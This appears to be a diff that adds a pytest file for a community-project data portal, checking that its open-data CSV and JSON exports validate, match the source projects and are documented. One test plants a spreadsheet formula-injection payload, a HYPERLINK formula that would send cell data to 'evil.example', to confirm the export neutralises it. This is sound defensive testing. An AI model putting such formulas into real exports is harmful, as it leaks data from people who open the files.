@@ -1,0 +1,101 @@
+"""The open data of every build: a valid Frictionless Data Package that matches the projects."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+from bs4 import BeautifulSoup
+
+from cocreate.portal.datapackage import TABLES
+from helpers import PROJECTS
+
+SLUGS = sorted(p.name for p in PROJECTS.iterdir() if (p / "project.yml").exists())
+
+
+def rows(site: Path, table: str) -> list[dict[str, str]]:
+    with (site / "data" / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_frictionless_validates_the_package(demo_site: Path) -> None:
+    from frictionless import validate
+
+    report = validate(str(demo_site / "data" / "datapackage.json"))
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
+
+
+def test_tables_match_the_projects(demo_site: Path) -> None:
+    import yaml
+
+    projects = rows(demo_site, "projects")
+    assert [p["slug"] for p in projects] == SLUGS
+    total_stakeholders = total_entries = 0
+    for slug in SLUGS:
+        data = yaml.load((PROJECTS / slug / "project.yml").read_text("utf-8"), Loader=yaml.BaseLoader)
+        total_stakeholders += len(data["stakeholders"])
+        total_entries += len(data["timeline"])
+        row = next(p for p in projects if p["slug"] == slug)
+        assert row["phase"] == data["phase"] and row["title_en"] == data["title"]["en"]
+    assert len(rows(demo_site, "stakeholders")) == total_stakeholders
+    assert len(rows(demo_site, "timeline")) == total_entries
+    everything = json.loads((demo_site / "data" / "projects.json").read_text("utf-8"))
+    assert [p["slug"] for p in everything] == SLUGS
+
+
+def test_every_field_is_documented_on_the_data_page(demo_site: Path) -> None:
+    package = json.loads((demo_site / "data" / "datapackage.json").read_text("utf-8"))
+    page = BeautifulSoup((demo_site / "data" / "index.html").read_text("utf-8"), "html.parser")
+    for resource in package["resources"]:
+        if "schema" not in resource:
+            continue
+        section = page.select_one(f"#table-{resource['name']}")
+        documented = [td.text for td in section.select("tbody tr td:first-child code")]
+        assert documented == [f["name"] for f in resource["schema"]["fields"]]
+        assert all(f["description"] for f in resource["schema"]["fields"])
+    assert {t.name for t in TABLES} <= {r["name"] for r in package["resources"]}
+
+
+def test_no_personal_contact_data_in_the_package(demo_site: Path) -> None:
+    text = "".join(p.read_text("utf-8") for p in (demo_site / "data").glob("*.*") if p.suffix in (".csv", ".json"))
+    assert "@example" not in text and "t@example.invalid" not in text
+
+
+def test_the_codebook_says_how_formulas_are_published(demo_site: Path, demo_site_en: Path) -> None:
+    from cocreate.i18n.translator import Translator
+
+    for site, language in ((demo_site, "id"), (demo_site_en, "en")):
+        note = Translator(language)("data.formulas")
+        page = BeautifulSoup((site / "data" / "index.html").read_text("utf-8"), "html.parser")
+        assert page.select_one("#formulas").text == note
+        package = json.loads((site / "data" / "datapackage.json").read_text("utf-8"))
+        assert package["description"].endswith(note)
+        assert all(resource["description"].endswith(note) for resource in package["resources"]
+                   if resource["format"] == "csv")
+
+
+def test_contributed_texts_that_begin_like_formulas_are_neutralised(tmp_path: Path, minimal_text: str) -> None:
+    from frictionless import validate
+
+    from cocreate.standard.csvsafe import FORMULA_START
+    from conftest import build, make_portal
+
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    text = minimal_text.replace("title: Bank Sampah RT 03", "title: \"-5 derajat; =1+2\"")
+    text = text.replace("name: Paguyuban Warga RT 03", f"name: {json.dumps(hostile)}")
+    text = text.replace("contributes: Tenaga dan tempat", 'contributes: "@SUM(1)"')
+    (tmp_path / "src" / "bank-sampah").mkdir(parents=True)
+    (tmp_path / "src" / "bank-sampah" / "project.yml").write_text(text, "utf-8")
+    site = build(make_portal(tmp_path / "portal", tmp_path / "src"))
+    stakeholders = rows(site, "stakeholders")
+    assert stakeholders[0]["name"] == f"'{hostile}" and stakeholders[0]["contributes_id"] == "'@SUM(1)"
+    assert rows(site, "projects")[0]["title_id"] == "'-5 derajat; =1+2"
+    for table in TABLES:
+        for line in (site / "data" / f"{table.name}.csv").read_text("utf-8").splitlines():
+            assert line.startswith('"') and line.endswith('"'), line  # every cell quoted
+        for row in rows(site, table.name):
+            assert not any(value.startswith(FORMULA_START) for value in row.values()), row
+    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"' in (site / "data" / "stakeholders.csv").read_text("utf-8")
+    report = validate(str(site / "data" / "datapackage.json"))
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
